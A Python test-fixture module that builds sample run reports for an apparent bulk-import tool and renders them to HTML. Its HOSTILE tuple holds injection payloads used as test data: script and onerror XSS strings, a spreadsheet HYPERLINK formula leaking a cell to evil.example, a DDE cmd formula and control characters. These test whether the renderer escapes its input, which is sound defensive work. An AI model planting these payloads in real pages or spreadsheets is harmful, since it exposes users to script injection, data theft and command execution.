"""Runs as they end in practice, for the tests of the report and for looking at it.

`python tests/unit/reporting/report_sample.py DIR` writes one page per sample run into DIR.
"""

from __future__ import annotations

import sys
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from jobferry.domain.error_codes import ErrorClass
from jobferry.domain.outcome import OutcomeStatus
from jobferry.domain.run import RunStatus
from jobferry.operator.next_steps import next_steps
from jobferry.reporting.html import (
    Cell,
    ErrorGroup,
    RunReport,
    Sample,
    TimelinePoint,
    render_report,
)

STARTED = datetime(2026, 11, 22, 6, 9, 22, tzinfo=UTC)
RUN_ID = "20261122T060922-7f3a9c"

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style><style>*{display:none}",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "right\u202eto\u2066left \x00\x1b[31m \ud800",
)


def counts(
    succeeded: int = 0, failed: int = 0, rejected: int = 0, skipped: int = 0, unknown: int = 0
) -> dict[str, int]:
    return {
        "succeeded": succeeded,
        "failed": failed,
        "rejected": rejected,
        "skipped": skipped,
        "unknown": unknown,
    }


def timeline(points: int, rows: int, seconds: float, jobs: int) -> list[TimelinePoint]:
    """A run that ramps up, works with a full window and drains."""
    return [
        TimelinePoint(
            seconds=seconds * at / max(1, points - 1),
            rows_settled=round(rows * at / max(1, points - 1)),
            jobs_in_flight=min(jobs - (at % 7 == 6), 3 * at, 3 * (points - 1 - at)),
        )
        for at in range(points)
    ]


def run(rows: int = 300, **changes: object) -> RunReport:
    """A run in which every row succeeded, with `changes`."""
    report = RunReport(
        run_id=RUN_ID,
        profile="new-tickets",
        operation="tickets.create",
        connection="acme",
        status=RunStatus.COMPLETED,
        error=None,
        source="s3://jobferry-files/inbox/new-tickets/november import.csv",
        started_at=STARTED,
        closed_at=STARTED + timedelta(seconds=12.3),
        as_of=STARTED,
        seconds=0.0,
        rows=rows,
        outcomes=counts(succeeded=rows),
        jobs={"planned": 3, "submitted": 3, "finished": 3},
        requests={"submit": 3, "poll": 4, "other": 0},
        timeline=timeline(14, rows, 12.3, 3),
        cost={"Lambda": 0.00062, "Step Functions": 0.0011, "DynamoDB": 0.00038, "S3": 0.00007},
        files=[
            f"s3://jobferry-files/results/{RUN_ID}/{name}.csv"
            for name in ("succeeded", "failed", "rejected", "skipped", "unknown")
        ],
    )
    report = replace(report, **changes)  # type: ignore[arg-type]
    until = report.closed_at or report.as_of
    seconds = (until - report.started_at).total_seconds() - report.paused_seconds
    return replace(report, as_of=until, seconds=seconds, steps=next_steps(document_of(report)))


def document_of(report: RunReport) -> dict[str, Any]:
    """The run's status document, as far as the next steps depend on it."""
    account = report.error if report.count(OutcomeStatus.SKIPPED) else None
    kind = ErrorClass.ACCOUNT if account else ErrorClass.ROW
    return {
        "run_id": report.run_id,
        "status": report.status,
        "profile": report.profile,
        "connection": report.connection,
        "outcomes": report.outcomes,
        "failed_by_class": {kind.value: report.count(OutcomeStatus.FAILED)},
        "paused": {"code": "breaker"} if report.status is RunStatus.PAUSED else None,
        "closed_at": report.closed_at,
        "error_code": "vendor_forbidden" if account else None,
        "error": report.error,
        "waiting": [],
        "source": {"key": report.source},
    }


def ticket(row: int, subject: str, text: str = "") -> Sample:
    cells = [
        Cell("Body", "", wrong=True),
        Cell("Ref", f"INV-{row:05d}"),
        Cell("Subject", subject),
        Cell("Priority", "high"),
    ]
    return Sample(row=row, cells=cells, text=text)


def mixed_run() -> RunReport:
    """Good and bad lines, as in the demonstration."""
    text = "Description: cannot be blank"
    samples = [
        ticket(7, "Where is my parcel?", text),
        ticket(41, "Invoice wrong", text),
        ticket(192, "Café closed", text),
    ]
    blank = ErrorGroup(OutcomeStatus.FAILED, "TicketCreateFailed", text, 6, samples)
    enum = ErrorGroup(
        OutcomeStatus.REJECTED,
        "not_allowed",
        "Priority: only low, normal, high, urgent are allowed",
        3,
        [
            Sample(
                12,
                [Cell("Priority", "asap", wrong=True), Cell("Ref", "INV-00012")],
                "Priority: “asap” is not allowed",
                hidden=2,
            )
        ],
    )
    return run(
        status=RunStatus.COMPLETED_WITH_FAILURES,
        outcomes=counts(succeeded=290, failed=6, rejected=3, skipped=1),
        error_groups=[enum, blank],
    )


def aborted_run() -> RunReport:
    return run(
        10_000,
        status=RunStatus.ABORTED,
        error="The account refused us: 403 Forbidden. Its token may have been revoked.",
        outcomes=counts(succeeded=1_200, failed=100, skipped=8_700),
        jobs={"planned": 100, "submitted": 13, "finished": 13},
        requests={"submit": 16, "poll": 21, "other": 1},
        timeline=timeline(30, 1_300, 94, 10),
        closed_at=STARTED + timedelta(seconds=94),
        error_groups=[
            ErrorGroup(
                OutcomeStatus.FAILED, "forbidden", "403 Forbidden", 100, [ticket(1201, "Hi")]
            )
        ],
    )


def refused_run() -> RunReport:
    """The file could not be used at all."""
    return run(
        0,
        status=RunStatus.FAILED,
        error="The column “Subject” that the profile maps is not in the header.",
        jobs={"planned": 0, "submitted": 0, "finished": 0},
        requests={"submit": 0, "poll": 0, "other": 0},
        timeline=[],
        files=[],
        closed_at=STARTED + timedelta(seconds=0.4),
    )


def one_row_run() -> RunReport:
    return run(
        1,
        jobs={"planned": 1, "submitted": 1, "finished": 1},
        requests={"submit": 1, "poll": 1, "other": 0},
        timeline=[TimelinePoint(2.1, 1, 0)],
        closed_at=STARTED + timedelta(seconds=2.4),
    )


def large_run() -> RunReport:
    """A million rows, three of which nobody can vouch for."""
    unknown = ErrorGroup(
        OutcomeStatus.UNKNOWN,
        "no_answer",
        "The answer was lost, and the vendor's list of jobs no longer reaches back so far",
        3,
        [ticket(512_345, "Renewal"), ticket(512_346, "Renewal"), ticket(512_347, "Renewal")],
    )
    return run(
        1_000_000,
        status=RunStatus.UNRESOLVED,
        outcomes=counts(succeeded=999_990, failed=7, unknown=3),
        jobs={"planned": 10_000, "submitted": 10_001, "finished": 10_000},
        requests={"submit": 10_001, "poll": 5_714, "other": 12},
        timeline=timeline(5_000, 1_000_000, 9_876, 30),
        closed_at=STARTED + timedelta(seconds=9_876),
        cost={"Lambda": 0.31, "Step Functions": 0.12, "DynamoDB": 0.29, "S3": 0.03},
        warnings=['Zendesk Support warns: Removed restricted keys ["subjet"]'],
        error_groups=[
            unknown,
            ErrorGroup(OutcomeStatus.FAILED, "RecordInvalid", "Requester: Email is bad", 7, []),
        ],
    )


def hostile_run() -> RunReport:
    """Markup, formulas and control characters wherever a file or a vendor can put them."""
    cells = [Cell(one, other) for one, other in zip(HOSTILE, reversed(HOSTILE), strict=True)]
    samples = [Sample(row, cells, text) for row, text in enumerate(HOSTILE, start=1)]
    groups = [ErrorGroup(OutcomeStatus.FAILED, text, text, 40, samples) for text in HOSTILE]
    return run(
        240,
        status=RunStatus.COMPLETED_WITH_FAILURES,
        error=HOSTILE[0],
        run_id=HOSTILE[1],
        profile=HOSTILE[0],
        connection=HOSTILE[2],
        source=f"s3://bucket/inbox/p/{HOSTILE[1]}",
        outcomes=counts(failed=240),
        error_groups=groups,
        cost={HOSTILE[0]: 1.0},
        files=HOSTILE,
        warnings=HOSTILE,
    )


def crowded_run() -> RunReport:
    """More kinds of error, columns and text than a page can show."""
    cells = [Cell(f"Column {n}", f"cell-{n}-" + "x" * 200, cut=2_800) for n in range(6)]
    groups = [
        ErrorGroup(
            OutcomeStatus.FAILED,
            f"code_{number}",
            "long " * 400,
            10 + number,
            [Sample(row, cells, "long " * 400, hidden=34) for row in range(5)],
        )
        for number in range(27)
    ]
    total = sum(group.count for group in groups)
    return run(
        total,
        status=RunStatus.COMPLETED_WITH_FAILURES,
        outcomes=counts(failed=total),
        error_groups=groups,
    )


def paused_run() -> RunReport:
    """The circuit breaker has stopped it, overnight."""
    text = "Email: ann@example.com is not properly formatted"
    group = ErrorGroup(
        OutcomeStatus.FAILED, "RecordInvalid", text, 200, [ticket(3, "Hi", text)], alike=False
    )
    return run(
        20_000,
        status=RunStatus.PAUSED,
        closed_at=None,
        as_of=STARTED + timedelta(hours=12),
        paused_seconds=43_000.0,
        outcomes=counts(succeeded=30, failed=200),
        jobs={"planned": 200, "submitted": 3, "finished": 3},
        error_groups=[group],
        waiting=["200 of 230 rows failed with RecordInvalid."],
        by={"started": "arn:aws:iam::123456789012:user/ann"},
        files=[],
    )


SAMPLES = {
    "good": run,
    "mixed": mixed_run,
    "aborted": aborted_run,
    "refused": refused_run,
    "one_row": one_row_run,
    "large": large_run,
    "hostile": hostile_run,
    "crowded": crowded_run,
    "paused": paused_run,
}


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for name, make in SAMPLES.items():
        (folder / f"{name}.html").write_text(render_report(make()), encoding="utf-8")
